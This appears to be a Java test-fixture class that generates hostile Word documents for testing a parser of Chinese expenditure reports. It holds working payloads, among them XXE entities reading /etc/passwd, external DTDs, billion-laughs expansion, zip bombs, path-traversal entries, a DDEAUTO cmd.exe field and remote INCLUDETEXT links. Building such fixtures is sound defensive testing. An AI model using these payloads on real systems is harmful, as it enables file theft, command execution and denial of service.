package org.gouji.app.hostile;

import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.util.LinkedHashMap;
import java.util.Map;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/// Files of Word since 2007: a zip of XML.
final class WordCases {

  private static final String WORD =
      "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
  private static final String RELATIONS =
      "http://schemas.openxmlformats.org/package/2006/relationships";
  private static final String OFFICE =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
  private static final String BODY = "word/document.xml";
  private static final String LINE = paragraph("本年支出合计100.00万元。");

  /// Nobody answers there, and nobody is asked.
  private static final String ELSEWHERE = "http://example.invalid/";

  private WordCases() {}

  static void into(Map<String, Content> cases) {
    cases.put("entities-billion.docx",
        () -> docx(billion(), "<w:p><w:r><w:t>&f;</w:t></w:r></w:p>"));
    cases.put("entities-thief.docx", () -> docx(
        "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
        "<w:p><w:r><w:t>&a;</w:t></w:r></w:p>"));
    cases.put("entities-parameter.docx", () -> docx(
        "<!DOCTYPE x [<!ENTITY % a SYSTEM '" + ELSEWHERE + "a.dtd'> %a;]>", LINE));
    cases.put("dtd-elsewhere.docx", () -> docx(
        "<!DOCTYPE x SYSTEM '" + ELSEWHERE + "word.dtd'>", LINE));
    cases.put("relations-elsewhere.docx", WordCases::elsewhere);
    cases.put("macros.docm", () -> with("word/vbaProject.bin", new byte[4000]));
    cases.put("object-embedded.docx", () -> with(
        "word/embeddings/oleObject1.bin", ole("Package")));
    cases.put("bomb.docx", () -> Content.bomb(BODY, 200));
    cases.put("bomb-beside.docx", WordCases::bombBeside);
    cases.put("nested.docx", WordCases::nested);
    cases.put("zip-of-zips.docx", () -> Content.zip(
        Content.entries("1.zip", Content.zip(Content.entries("2.zip", new byte[1000])))));
    cases.put("entry-outside.docx", () -> with("../../../../tmp/outside.xml", new byte[10]));
    cases.put("entries-many.docx", WordCases::manyEntries);
    cases.put("entry-claims-4gb.docx", WordCases::claims);
    cases.put("tables-deep.docx", () -> docx("", "<w:tbl><w:tr><w:tc>".repeat(1000)
        + LINE + "</w:tc></w:tr></w:tbl>".repeat(1000)));
    cases.put("tags-deep.docx", () -> docx("", "<w:p>" + "<w:smartTag>".repeat(100_000)
        + "</w:smartTag>".repeat(100_000) + "</w:p>"));
    cases.put("table-million-rows.docx", () -> docx("", "<w:tbl>"
        + "<w:tr><w:tc><w:p/></w:tc><w:tc><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr>".repeat(1_000_000)
        + "</w:tbl>"));
    cases.put("table-wide.docx", () -> docx("", "<w:tbl><w:tr>"
        + ("<w:tc>" + LINE + "</w:tc>").repeat(20_000) + "</w:tr></w:tbl>"));
    cases.put("paragraph-giant.docx", () -> docx("", paragraph("其中：支出1.5万元，".repeat(100_000))));
    cases.put("paragraph-endless.docx", () -> docx("", paragraph("支出1.5万元".repeat(8_000_000))));
    cases.put("digits-endless.docx", () -> docx("", paragraph("9".repeat(1_000_000) + "万元")));
    cases.put("brackets-endless.docx", () -> docx("", paragraph("（".repeat(200_000))));
    cases.put("spans-absurd.docx", () -> docx("", spans("2147483647")));
    cases.put("spans-negative.docx", () -> docx("", spans("-5")));
    cases.put("merges-endless.docx", () -> docx("", "<w:tbl>"
        + "<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>".repeat(50_000)
        + "</w:tbl>"));
    cases.put("numbering-absurd.docx", WordCases::numbering);
    cases.put("formulas.docx", () -> docx("", paragraph("=1+1") + paragraph("@SUM(A1)")
        + paragraph("+1") + paragraph("-1") + LINE));
    cases.put("markup.docx", () -> docx("", paragraph("&lt;script&gt;alert(1)&lt;/script&gt; 支出1万元")
        + paragraph("\u202e倒写\ufeff\ufffe")));
    cases.put("encrypted.docx", WordCases::encrypted);
    for (int i = 1; i <= 9; i++) {
      double part = i / 10.0;
      cases.put("cut-" + i + ".docx", () -> Content.cut(good(), part));
    }
  }

  /// A report of a few lines that nothing is wrong with.
  static byte[] good() throws Exception {
    return docx(
        "", paragraph("北岭县总工会2022年度部门整体支出绩效自评报告") + paragraph("一、基本情况")
            + paragraph("核定编制8名，在职人员7名。") + paragraph("二、支出情况")
            + paragraph("本年支出合计100.00万元，其中基本支出60.00万元，项目支出40.00万元。"));
  }

  static String paragraph(String text) {
    return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>";
  }

  private static byte[] docx(String before, String body) throws Exception {
    return Content.zip(parts(before, body));
  }

  private static Map<String, byte[]> parts(String before, String body) {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    parts.put("[Content_Types].xml", Content.utf8(
        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
            + "<Default Extension='rels' ContentType='application/"
            + "vnd.openxmlformats-package.relationships+xml'/><Override PartName='/" + BODY
            + "' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml"
            + ".document.main+xml'/></Types>"));
    parts.put("_rels/.rels", Content.utf8("<Relationships xmlns='" + RELATIONS
        + "'><Relationship Id='r' Type='" + OFFICE + "officeDocument' Target='" + BODY
        + "'/></Relationships>"));
    parts.put(BODY, Content.utf8("<?xml version='1.0' encoding='UTF-8'?>" + before
        + "<w:document xmlns:w='" + WORD + "' xmlns:r='" + OFFICE.substring(0, OFFICE.length() - 1)
        + "'><w:body>" + body + "</w:body></w:document>"));
    return parts;
  }

  private static byte[] with(String name, byte[] part) throws Exception {
    Map<String, byte[]> parts = parts("", LINE);
    parts.put(name, part);
    return Content.zip(parts);
  }

  private static String billion() {
    StringBuilder dtd = new StringBuilder("<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>");
    for (char name = 'b'; name <= 'f'; name++) {
      String before = "&" + (char) (name - 1) + ";";
      dtd.append("<!ENTITY ").append(name).append(" '").append(before.repeat(10)).append("'>");
    }
    return dtd.append("]>").toString();
  }

  /// A template, a picture, a sub-document and styles, all on another machine.
  private static byte[] elsewhere() throws Exception {
    StringBuilder relations = new StringBuilder("<Relationships xmlns='" + RELATIONS + "'>");
    for (String type : new String[] {
      "attachedTemplate", "image", "subDocument", "styles", "numbering", "settings", "header"}) {
      relations.append("<Relationship Id='")
          .append(type)
          .append("' Type='")
          .append(OFFICE)
          .append(type)
          .append("' TargetMode='External' Target='")
          .append(ELSEWHERE)
          .append(type)
          .append("'/>");
    }
    relations.append("<Relationship Id='local' Type='")
        .append(OFFICE)
        .append("footnotes' Target='../../../../../../etc/passwd'/>");
    Map<String, byte[]> parts = parts("", LINE + "<w:p><w:subDoc r:id='subDocument'/></w:p>"
        + "<w:p><w:r><w:fldSimple w:instr='INCLUDETEXT \"" + ELSEWHERE
        + "x.docx\"'><w:r><w:t>2万元</w:t></w:r></w:fldSimple></w:r></w:p>"
        + "<w:p><w:r><w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe'/></w:r></w:p>");
    parts.put("word/_rels/document.xml.rels", Content.utf8(relations + "</Relationships>"));
    return Content.zip(parts);
  }

  private static byte[] ole(String stream) throws Exception {
    var out = new ByteArrayOutputStream();
    try (var files = new POIFSFileSystem()) {
      files.createDocument(new java.io.ByteArrayInputStream(new byte[5000]), stream);
      files.writeFilesystem(out);
    }
    return out.toByteArray();
  }

  /// The body is harmless, and nobody needs the picture.
  private static byte[] bombBeside() throws Exception {
    Map<String, byte[]> parts = parts("", LINE);
    parts.put("word/media/image1.png", new byte[100 << 20]);
    return Content.zip(parts);
  }

  private static byte[] nested() throws Exception {
    byte[] inner = good();
    for (int i = 0; i < 60; i++) {
      Map<String, byte[]> parts = parts("", LINE);
      parts.put("word/embeddings/document.docx", inner);
      inner = Content.zip(parts);
    }
    return inner;
  }

  private static byte[] manyEntries() throws Exception {
    Map<String, byte[]> parts = parts("", LINE);
    for (int i = 0; i < 70_000; i++) {
      parts.put("x/" + i, new byte[0]);
    }
    return Content.zip(parts);
  }

  /// Its directory says that the body is 4 GB long.
  private static byte[] claims() throws Exception {
    byte[] bytes = good();
    byte[] mark = {'P', 'K', 1, 2};
    for (int i = 0; i + 46 < bytes.length; i++) {
      if (java.util.Arrays.equals(bytes, i, i + 4, mark, 0, 4)) {
        for (int at = i + 24; at < i + 28; at++) {
          bytes[at] = (byte) 0xfe;
        }
      }
    }
    return bytes;
  }

  private static String spans(String span) {
    String cell = "<w:tc><w:tcPr><w:gridSpan w:val='" + span + "'/></w:tcPr>" + LINE + "</w:tc>";
    String row =
        "<w:tr><w:trPr><w:gridBefore w:val='" + span + "'/></w:trPr>" + cell.repeat(3) + "</w:tr>";
    return "<w:tbl>" + row.repeat(3) + "</w:tbl>";
  }

  /// Counts from 2,147,483,647, in letters and in Roman numerals.
  private static byte[] numbering() throws Exception {
    StringBuilder xml = new StringBuilder("<w:numbering xmlns:w='" + WORD + "'>");
    StringBuilder body = new StringBuilder();
    String[] formats = {
      "upperRoman", "lowerLetter", "chineseCounting", "ideographTraditional", "decimalZero"};
    for (int i = 0; i < formats.length; i++) {
      xml.append("<w:abstractNum w:abstractNumId='")
          .append(i)
          .append("'><w:lvl w:ilvl='0'><w:start w:val='2147483647'/><w:numFmt w:val='")
          .append(formats[i])
          .append("'/><w:lvlText w:val='%1、'/></w:lvl></w:abstractNum>");
    }
    for (int i = 0; i < formats.length; i++) {
      xml.append("<w:num w:numId='")
          .append(i + 1)
          .append("'><w:abstractNumId w:val='")
          .append(i)
          .append("'/></w:num>");
      body.append(("<w:p><w:pPr><w:numPr><w:ilvl w:val='0'/><w:numId w:val='" + (i + 1)
          + "'/></w:numPr></w:pPr><w:r><w:t>支出1万元</w:t></w:r></w:p>").repeat(3));
    }
    Map<String, byte[]> parts = parts("", body.toString());
    parts.put("word/numbering.xml", Content.utf8(xml + "</w:numbering>"));
    parts.put("word/_rels/document.xml.rels", Content.utf8("<Relationships xmlns='" + RELATIONS
        + "'><Relationship Id='n' Type='" + OFFICE
        + "numbering' Target='numbering.xml'/></Relationships>"));
    return Content.zip(parts);
  }

  private static byte[] encrypted() throws Exception {
    Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
    encryptor.confirmPassword("secret");
    var out = new ByteArrayOutputStream();
    try (var container = new POIFSFileSystem()) {
      try (OutputStream inside = encryptor.getDataStream(container)) {
        inside.write(good());
      }
      container.writeFilesystem(out);
    }
    return out.toByteArray();
  }
}
